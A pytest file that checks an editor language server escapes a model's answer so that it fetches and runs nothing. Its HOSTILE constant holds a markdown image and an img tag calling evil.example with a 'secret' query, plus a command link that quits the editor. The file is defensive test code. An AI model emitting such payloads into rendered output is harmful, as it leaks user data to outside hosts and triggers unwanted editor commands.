"""A document that the server hands out fetches nothing and runs nothing, whatever the model wrote into its answer."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from tests.lsp.editor import Connect, document, settings_for
from tests.scripted import script

HOSTILE = "![x](https://evil.example/?q=secret) [Fix](command:workbench.action.quit) <img src=//evil.example/y>"


@pytest.mark.parametrize("readable", [True, False], ids=["document", "file"])
async def test_an_answer_is_shown_without_images_and_commands(
    editor: Connect, models: Connect, state_dir: Path, tmp_path: Path, readable: bool
) -> None:
    server = await models([script(f"submit({HOSTILE!r}, cite=[find('one')[0]])")])
    (tmp_path / "app.log").write_text("one\n")
    capabilities: dict[str, Any] = {"window": {"showDocument": {"support": True}}}
    if readable:
        capabilities["workspace"] = {"textDocumentContent": {}}
    connected = await editor(options=settings_for(server.base_url), folders=[tmp_path], capabilities=capabilities)
    params = {"question": "What?", "scope": document((tmp_path / "app.log").as_uri()), "show": True}
    answer = await connected.request("rlm/ask", params)
    shown = await connected.message("window/showDocument")
    if readable:
        text = (await connected.request("workspace/textDocumentContent", {"uri": shown["uri"]}))["text"]
    else:
        text = (state_dir / "answers" / f"{answer['runId']}.md").read_text("utf-8")
    assert "!\\[x](https://evil.example/?q=secret) \\[Fix](command:workbench.action.quit) \\<img" in text
    assert f"]({(tmp_path / 'app.log').as_uri()}#L1)" in text
    trace = await connected.request("workspace/textDocumentContent", {"uri": f"rlm:/trace/{answer['runId']}.md"})
    assert "\n![x]" not in trace["text"].split("## Answer")[1]
